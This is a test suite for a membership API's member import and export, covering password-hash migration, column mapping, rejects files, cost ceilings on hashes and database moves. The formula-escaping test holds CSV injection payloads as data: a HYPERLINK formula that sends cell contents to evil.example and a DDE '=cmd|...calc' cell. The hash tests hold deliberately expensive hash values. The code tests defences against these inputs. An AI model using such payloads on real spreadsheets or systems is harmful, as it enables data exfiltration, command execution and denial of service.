import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { hash as argon2Hash } from '@node-rs/argon2';
import bcrypt from 'bcryptjs';
import { parse as parseCsv } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { servicesOver } from '../../src/compose.js';
import { exportCommand, importCommand, type ImportCommandOptions } from '../../src/import-export/commands.js';
import { writeExport } from '../../src/import-export/files.js';
import { describeEachEngineApp } from '../support/app.js';
import { createTestStore, engineAvailable } from '../support/engines.js';

const dir = mkdtempSync(join(tmpdir(), 'member-api-transfer-'));
let files = 0;
function file(name: string, text: string): string {
  const path = join(dir, `${files++}-${name}`);
  writeFileSync(path, text);
  return path;
}

function openssl(algorithm: string, password: string): string {
  return execFileSync('openssl', ['passwd', `-${algorithm}`, '-stdin'], { input: password, encoding: 'utf8' }).trim();
}

function csv(rows: ReadonlyArray<Record<string, string | undefined>>): string {
  const columns = [...new Set(rows.flatMap((row) => Object.keys(row)))];
  const quote = (value: string) => (/[",\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
  return `${[columns.join(','), ...rows.map((row) => columns.map((c) => quote(row[c] ?? '')).join(','))].join('\n')}\n`;
}

const OPTIONS: Omit<ImportCommandOptions, 'account'> = { map: [], progress: false };
const ALL_FIELDS =
  '{login}{email}{status}{reg_type}{reg_date}{reg_time}{exp_date}{exp_time}{last_login_time}{bill_pc}{bill_id}{bill_item}{bill_cust}{bill_subscr}{bill_qty}{city}{plan}{note}';

describeEachEngineApp('import and export', (h) => {
  async function setup() {
    const account = await h().newAccount({ timeZone: 'Europe/Paris' });
    const list = async (params: Record<string, string> = {}) =>
      (await h().post('/api2/list/', { user: account.user, api_key: account.apiKey, record: `{id}${ALL_FIELDS}`, ...params })).json;
    const login = async (name: string, password: string) => (await h().post('/api2/login/', { user: account.user, login: name, password })).json.result;
    const run = (path: string, options: Partial<ImportCommandOptions> = {}) =>
      importCommand(h().services, path, { ...OPTIONS, account: account.user, ...options });
    return { ...account, list, login, run };
  }

  it('imports passwords hashed by other systems; members log in with their old passwords, and their hashes become argon2id', async () => {
    const { run, login, account } = await setup();
    const rows = [
      { login: 'plain', password: 'plain-password' },
      { login: 'argon', password_hash: await argon2Hash('argon-password', { algorithm: 1, memoryCost: 4096, timeCost: 3, parallelism: 1 }) },
      { login: 'bcrypt-2a', password_hash: bcrypt.hashSync('bcrypt-password', 6) },
      { login: 'bcrypt-2y', password_hash: bcrypt.hashSync('php-password', 5).replace('$2b$', '$2y$') },
      { login: 'md5', password_hash: openssl('1', 'md5-password') },
      { login: 'apr1', password_hash: openssl('apr1', 'apache-password') },
      { login: 'sha256', password_hash: openssl('5', 'sha256-password') },
      { login: 'sha512', password_hash: openssl('6', 'sha512-password') },
      { login: 'htpasswd', password_hash: `{SHA}${createHash('sha1').update('sha1-password').digest('base64')}` },
    ].map((row) => ({ ...row, email: `${row.login}@example.com` }));
    const report = await run(file('hashes.csv', csv(rows)));
    expect(report).toMatchObject({ read: 9, imported: 9, updated: 0, rejected: 0, hashed: 1 });

    const passwords: Record<string, string> = {
      plain: 'plain-password',
      argon: 'argon-password',
      'bcrypt-2a': 'bcrypt-password',
      'bcrypt-2y': 'php-password',
      md5: 'md5-password',
      apr1: 'apache-password',
      sha256: 'sha256-password',
      sha512: 'sha512-password',
      htpasswd: 'sha1-password',
    };
    for (const [name, password] of Object.entries(passwords)) {
      expect(await login(name, `${password}-wrong`), name).toBe('FAIL');
      expect(await login(name, password), name).toBe('OK');
      const member = await h().store.members.findMemberByLogin(account.id, name);
      expect(member!.passwordHash, name).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/);
      expect(await login(name, password), name).toBe('OK');
    }
  });

  it('reads statuses, registration types, dates, billing and profile fields, under a column mapping', async () => {
    const { run, list } = await setup();
    const path = file(
      'shop.csv',
      csv([
        {
          user_name: 'ann',
          mail: 'ann@example.com',
          pw: 'ann-password',
          state: 'Active',
          kind: 'Paid',
          since: '2020-03-01',
          expires: '2030-01-01T00:00:00Z',
          bill_pc: 'paypal',
          bill_id: 'I-1',
          bill_subscr: 'S-1',
          city: 'Paris',
          junk: 'x',
        },
        {
          user_name: 'ben',
          mail: 'ben@example.com',
          pw: 'ben-password',
          state: 'S',
          kind: 'free',
          since: '2021-06-30 23:30:00',
          expires: '',
          bill_pc: '',
          bill_id: '',
          bill_subscr: '',
          city: '',
          junk: 'y',
        },
        {
          user_name: 'cid',
          mail: 'cid@example.com',
          pw: 'cid-password',
          state: 'deleted',
          kind: 'Manual',
          since: '1600000000',
          expires: '',
          bill_pc: '',
          bill_id: '',
          bill_subscr: '',
          city: 'Rome',
          junk: '',
        },
      ]),
    );
    const report = await run(path, {
      map: ['user_name=login', 'mail=email', 'pw=password', 'state=status', 'kind=reg_type', 'since=reg_time', 'expires=exp_time', 'junk='],
    });
    expect(report).toMatchObject({ imported: 3, rejected: 0 });
    const listed = [...(await list()).members, ...(await list({ status: 'D' })).members] as Array<Record<string, string>>;
    expect(listed.map(({ id: _, ...m }) => m)).toEqual([
      expect.objectContaining({
        login: 'ann',
        status: 'Active',
        reg_type: 'Paid',
        reg_date: '2020-03-01',
        reg_time: '2020-03-01 00:00:00',
        exp_time: '2030-01-01 01:00:00',
        bill_pc: 'paypal',
        bill_id: 'I-1',
        bill_subscr: 'S-1',
        city: 'Paris',
      }),
      expect.objectContaining({ login: 'ben', status: 'Suspended', reg_type: 'Free', reg_time: '2021-06-30 23:30:00', exp_time: '', city: '' }),
      expect.objectContaining({ login: 'cid', status: 'Deleted', reg_type: 'Manual', reg_time: '2020-09-13 14:26:40', city: 'Rome' }),
    ]);
    expect(listed[0]).not.toHaveProperty('junk');
    expect(listed[1]).not.toHaveProperty('bill_subscr');
  });

  it('is safe to run twice: the second run updates by login and changes nothing; a dry run writes nothing', async () => {
    const { run, list, login } = await setup();
    const rows = Array.from({ length: 30 }, (_, i) => ({
      login: `m${i}`,
      email: `m${i}@example.com`,
      password_hash: openssl('1', `pw-${i}`),
      team: i % 2 ? 'odd' : 'even',
    }));
    const path = file('twice.csv', csv(rows));
    const dry = await run(path, { dryRun: true });
    expect(dry).toMatchObject({ read: 30, imported: 30, updated: 0, dryRun: true });
    expect((await list()).members_total).toBe(0);

    expect(await run(path)).toMatchObject({ imported: 30, updated: 0 });
    const first = await list();
    expect(await run(path)).toMatchObject({ imported: 0, updated: 30, rejected: 0 });
    expect(await list()).toEqual(first);
    expect(first.members_total).toBe(30);

    // An update changes what the row gives and keeps the rest: here only the team.
    expect(await run(file('team.csv', 'login,team\nM3,blue\n'))).toMatchObject({ imported: 0, updated: 1 });
    const m3 = (await list({ login_full: 'm3' })).members[0];
    expect(m3).toMatchObject({ login: 'M3', email: 'm3@example.com', city: '' });
    expect(await login('m3', 'pw-3')).toBe('OK');

    // Rows of one batch that change different columns: each changes only its own.
    const mixed = file(
      'mixed.jsonl',
      '{"login":"m4","email":"new4@example.com"}\n{"login":"m5","status":"S","team":"red"}\n{"login":"m6","reg_time":"2020-01-01"}\n',
    );
    expect(await run(mixed)).toMatchObject({ imported: 0, updated: 3, rejected: 0 });
    const changed = (await list({ record: '{login}{email}{status}{team}{reg_date}', login: 'm' })).members as Array<Record<string, string>>;
    expect(changed.find((m) => m.login === 'm4')).toMatchObject({ email: 'new4@example.com', status: 'Active', team: 'even' });
    expect(changed.find((m) => m.login === 'm5')).toMatchObject({ email: 'm5@example.com', status: 'Suspended', team: 'red' });
    expect(changed.find((m) => m.login === 'm6')).toMatchObject({ email: 'm6@example.com', reg_date: '2020-01-01' });
  });

  it('rejects bad rows with a reason naming the column, writes them to a rejects file, and imports the rest', async () => {
    const { run, list } = await setup();
    const path = file(
      'bad.csv',
      csv([
        { login: 'good', email: 'good@example.com', password: 'good-password', status: '', reg_ip: '' },
        { login: 'has space', email: 'x@example.com', password: 'some-password', status: '', reg_ip: '' },
        { login: 'noemail', email: '', password: 'some-password', status: '', reg_ip: '' },
        { login: 'nopass', email: 'n@example.com', password: '', status: '', reg_ip: '' },
        { login: 'badstatus', email: 'b@example.com', password: 'some-password', status: 'Z', reg_ip: '' },
        { login: 'badip', email: 'b@example.com', password: 'some-password', status: '', reg_ip: '999.1.1.1' },
        { login: 'GOOD', email: 'dup@example.com', password: 'some-password', status: '', reg_ip: '' },
      ]),
    );
    const report = await run(path);
    expect(report).toMatchObject({ read: 7, imported: 1, rejected: 6 });
    expect(report.reasons).toEqual({
      'invalid login': 1,
      'missing email (needed for a new member)': 1,
      'missing password or password_hash (needed for a new member)': 1,
      'invalid status': 1,
      'invalid reg_ip': 1,
      'login repeated in this file (its first row counts)': 1,
    });
    const rejected = readFileSync(report.rejectsFile!, 'utf8').trim().split('\n');
    expect(rejected[0]).toBe('login,email,password,status,reg_ip,_line,_reason,_text');
    expect(rejected).toContain('badip,b@example.com,some-password,,999.1.1.1,7,invalid reg_ip,');
    expect(rejected).toHaveLength(7);
    expect((await list()).members.map((m: { login: string }) => m.login)).toEqual(['good']);

    const jsonl = file('bad.jsonl', '{"login":"j1","email":"j1@example.com","password":"j1-password"}\nnot json\n{"login":"j2","email":{"x":1}}\n');
    const second = await run(jsonl);
    expect(second).toMatchObject({ read: 3, imported: 1, rejected: 2, reasons: { 'not a JSON object': 1, 'invalid email: not a string': 1 } });
    const lines = readFileSync(second.rejectsFile!, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toEqual([
      { _text: 'not json', _line: 2, _reason: 'not a JSON object' },
      { login: 'j2', email: { x: 1 }, _line: 3, _reason: 'invalid email: not a string' },
    ]);
    // Records the parser cannot split are rejected too, and the rows around them imported.
    const broken = await run(
      file(
        'broken.csv',
        'login,email,password\nk1,k1@example.com,k1-password\nk2,k2@example.com\nk3,k3@example.com,k3-password,extra\nk4,k4@example.com,k4-password\n',
      ),
    );
    expect(broken).toMatchObject({ read: 4, imported: 2, rejected: 2, reasons: { 'expected 3 fields, found 2': 1, 'expected 3 fields, found 4': 1 } });
    expect(readFileSync(broken.rejectsFile!, 'utf8')).toContain(',3,"expected 3 fields, found 2","k2,k2@example.com"');
    const quoted = await run(file('quote.csv', 'login,email,password\nq1,q1@example.com,q1-password\nq2,"q2@example.com,q2-password\n'));
    expect(quoted).toMatchObject({ read: 2, imported: 1, rejected: 1 });
    expect(Object.keys(quoted.reasons)[0]).toMatch(/^unreadable CSV: Quote Not Closed/);
    await expect(run(file('cols.csv', 'login,email,user\na,a@example.com,x\n'))).rejects.toThrow(
      /column "user" is neither a member column nor a valid profile field name/,
    );
  });

  it('rejects hashes that ask too much of a login (a hostile cost), naming the ceiling', async () => {
    const { run, list } = await setup();
    const hostile = file(
      'hostile.csv',
      csv([
        { login: 'slow-bcrypt', email: 'a@example.com', password_hash: '$2b$31$CCCCCCCCCCCCCCCCCCCCC.E5YPO9kmyuRGyh0XouQYb4YMJKvyOeW' },
        { login: 'huge-argon2', email: 'b@example.com', password_hash: '$argon2id$v=19$m=1048576,t=2,p=1$c29tZXNhbHQ$RdescudvJCsgt3ub+b+dWRWJTmaaJObG' },
        { login: 'fine', email: 'c@example.com', password_hash: '$2y$10$.vGA1O9wmRjrwAVXD98HNOgsNpDczlqm3Jq7KnEd1rVAGv3Fykk1a' },
      ]),
    );
    const report = await run(hostile);
    expect(report).toMatchObject({ read: 3, imported: 1, rejected: 2 });
    expect(report.reasons).toEqual({
      'password_hash asks too much of a login (bcrypt cost 31 over 14)': 1,
      'password_hash asks too much of a login (argon2 memory 1048576 KiB over 262144)': 1,
    });
    expect((await list()).members.map((m: { login: string }) => m.login)).toEqual(['fine']);
  });

  it('round-trips: export, import into a new account, and /list/ answers the same', async () => {
    const source = await setup();
    const seed = file(
      'seed.csv',
      csv([
        {
          login: 'r1',
          email: 'r1@example.com',
          password: 'r1-password',
          reg_type: 'P',
          reg_time: '2022-02-02T10:00:00Z',
          exp_time: '2031-01-01T00:00:00Z',
          exp_action: 'D',
          bill_pc: 'card',
          bill_item: 'gold',
          bill_qty: '2',
          city: 'Lyon',
          plan: 'gold',
          note: 'a "quoted", comma',
        },
        {
          login: 'r2',
          email: 'r2@example.com',
          password_hash: openssl('6', 'r2-password'),
          status: 'S',
          exp_logins: '3',
          exp_logins_action: 'S',
          url_ok: 'https://example.com/ok',
          city: 'Nice',
        },
        {
          login: 'r3',
          email: 'r3@example.com',
          password_hash: openssl('apr1', 'r3-password'),
          status: 'D',
          deleted_time: '2026-01-01T00:00:00Z',
          'profile:login_count': 'a field, not the count',
        },
      ]),
    );
    expect(await source.run(seed)).toMatchObject({ imported: 3, rejected: 0 });
    expect(await source.login('r1', 'r1-password')).toBe('OK');
    const everyone = async (account: typeof source) =>
      [...(await account.list()).members, ...(await account.list({ status: 'D' })).members].map(({ id: _, ...m }: Record<string, string>) => m);
    const before = await everyone(source);
    expect(before).toHaveLength(3);

    for (const format of ['csv', 'jsonl'] as const) {
      const exported = join(dir, `${files++}-export.${format}`);
      expect(await exportCommand(h().services, { account: source.user, output: exported })).toBe(3);
      const target = await setup();
      expect(await target.run(exported)).toMatchObject({ imported: 3, rejected: 0 });
      expect(await everyone(target)).toEqual(before);
      expect(await target.login('r1', 'r1-password')).toBe('OK');
      expect(await target.login('r2', 'r2-password')).toBe('FAIL');
      expect(await target.list({ record: '{login}{login_count}', login_full: 'r3', status: 'D' })).toMatchObject({
        members: [{ login: 'r3', login_count: 'a field, not the count' }],
      });
    }
  });

  it('writes CSV cells that a spreadsheet would run as formulas with a quote before them, and reads its own export back exactly', async () => {
    const source = await setup();
    // Seeded from JSON Lines, so that what is stored does not depend on reading CSV.
    const members = [
      { login: '@SUM(1+1)*cmd', email: '+cmd@x.io', password: 'first-password', note: '=HYPERLINK("https://evil.example/?"&A1,"click")', '-neg': '-1+2' },
      { login: "'=quoted", email: '-dash@x.io', password: 'second-password', note: "''+two", '-neg': "'plain" },
      { login: 'tab', email: 'tab@x.io', password: 'third-password', note: '\tTab', '-neg': '\rCR' },
      { login: 'fullwidth', email: 'fw@x.io', password: 'fourth-password', note: '\uFF1D1+1', '-neg': "'" },
      { login: "plain'quote", email: 'plain@x.io', password: 'fifth-password', note: "it's fine" },
    ];
    expect(await source.run(file('formulas.jsonl', members.map((m) => `${JSON.stringify(m)}\n`).join('')))).toMatchObject({ imported: 5, rejected: 0 });
    const exportOf = async (account: typeof source, format: 'csv' | 'jsonl') => {
      const path = join(dir, `${files++}-formulas.${format}`);
      await exportCommand(h().services, { account: account.user, output: path });
      return { path, text: readFileSync(path, 'utf8') };
    };
    const withoutIds = (jsonl: string) =>
      jsonl
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as Record<string, string>)
        .map(({ id: _, ...member }) => member);
    const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

    // CSV: no cell, the header's included, begins as a formula; a quote-led one gets one quote more.
    const exported = await exportOf(source, 'csv');
    const [header, ...rows] = parseCsv(exported.text, { bom: true }) as string[][];
    expect([...header!, ...rows.flat()].filter((cell) => FORMULA.test(cell))).toEqual([]);
    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
    expect(header).toContain("'-neg");
    expect(column('login')).toEqual(["'@SUM(1+1)*cmd", "''=quoted", 'tab', 'fullwidth', "plain'quote"]);
    expect(column('email')).toEqual(["'+cmd@x.io", "'-dash@x.io", 'tab@x.io', 'fw@x.io', 'plain@x.io']);
    expect(column('note')).toEqual([`'${members[0]!.note}`, "'''+two", "'\tTab", "'\uFF1D1+1", "it's fine"]);
    expect(column("'-neg")).toEqual(["'-1+2", "'plain", "'\rCR", "'", '']);
    // JSON Lines is no spreadsheet: its values are as they are.
    const original = withoutIds((await exportOf(source, 'jsonl')).text);
    expect(original.map((m) => [m.login, m.email, m.note, m['-neg']])).toEqual(members.map((m) => [m.login, m.email, m.note, m['-neg']]));

    // Our own CSV export, imported, gives back every value exactly.
    const target = await setup();
    expect(await target.run(exported.path)).toMatchObject({ imported: 5, rejected: 0 });
    expect(withoutIds((await exportOf(target, 'jsonl')).text)).toEqual(original);
    expect(await target.login("'=quoted", 'second-password')).toBe('OK');

    // The rejects file is for spreadsheets too: its cells (a file's header, rows and reasons) are quoted the same way.
    const bad = file('formula-rejects.csv', `login,email,password,-neg\n"=cmd|'/C&calc'!A0",,@secret-password,+1\nfine,fine@x.io,fine-password,\n=1+1,"x\n`);
    const report = await source.run(bad);
    expect(report).toMatchObject({ read: 3, imported: 1, rejected: 2 });
    const [rejectsHeader, ...rejected] = parseCsv(readFileSync(report.rejectsFile!, 'utf8'), { bom: true, relax_column_count: true }) as string[][];
    expect([...rejectsHeader!, ...rejected.flat()].filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(rejectsHeader).toEqual(['login', 'email', 'password', "'-neg", '_line', '_reason', '_text']);
    const byLine = new Map(rejected.map((row) => [row[4], row]));
    expect(byLine.get('2')).toEqual(["'=cmd|'/C&calc'!A0", '', "'@secret-password", "'+1", '2', 'missing email (needed for a new member)', '']);
    expect(byLine.get('4')!.at(-1)).toBe(`'=1+1,"x`);
  });
});

for (const [from, to] of [
  ['sqlite', 'postgres'],
  ['postgres', 'sqlite'],
] as const) {
  it.skipIf(!engineAvailable(from) || !engineAvailable(to))(`moves an account from ${from} to ${to} with its ids (export | import --keep-ids)`, async () => {
    const a = await createTestStore(from);
    const b = await createTestStore(to);
    try {
      const sa = await servicesOver(a.store, { publicUrl: 'http://localhost' });
      const sb = await servicesOver(b.store, { publicUrl: 'http://localhost' });
      const created = await sa.accounts.create('moving');
      await sb.accounts.create('moving');
      if (created.kind !== 'created') throw new Error('no account');
      // Ids with gaps, as a store that has lived has them.
      const seed = file(
        'move.csv',
        csv(
          Array.from({ length: 25 }, (_, i) => ({
            id: String(10 + i * 3),
            login: `u${i}`,
            email: `u${i}@example.com`,
            password_hash: openssl('5', `u${i}`),
            city: `c${i}`,
          })),
        ),
      );
      expect(await importCommand(sa, seed, { ...OPTIONS, account: 'moving', keepIds: true })).toMatchObject({ imported: 25 });

      const pipe = new PassThrough();
      const text: Buffer[] = [];
      pipe.on('data', (chunk: Buffer) => text.push(chunk));
      await sa.store.transfer.exportMembers(created.account.id, (exported) => writeExport(exported, 'jsonl', pipe).then(() => undefined));
      const moved = file('moved.jsonl', Buffer.concat(text).toString());
      expect(await importCommand(sb, moved, { ...OPTIONS, account: 'moving', keepIds: true })).toMatchObject({ imported: 25, rejected: 0 });

      const membersOf = async (services: typeof sa) => {
        const account = (await services.accounts.find('moving'))!;
        let out = '';
        await services.store.transfer.exportMembers(account.id, async (exported) => {
          for await (const chunk of exported.members) out += chunk.map((m) => `${m.id}:${m.login}:${m.profile.get('city')}`).join(',');
        });
        return out;
      };
      expect(await membersOf(sb)).toBe(await membersOf(sa));
      // New members get ids above the moved ones.
      const next = await sb.members.create(
        (await sb.accounts.find('moving'))!,
        {
          login: 'newcomer',
          email: 'n@example.com',
          password: 'newcomer-password',
          urlOk: null,
          urlFail: null,
          ip: null,
          timeExpiry: null,
          loginExpiry: null,
          profile: new Map(),
        },
        { actor: 'api' },
      );
      expect(next).toMatchObject({ kind: 'created' });
      expect((next as { id: number }).id).toBeGreaterThan(10 + 24 * 3);
    } finally {
      await a.dispose();
      await b.dispose();
    }
  });
}
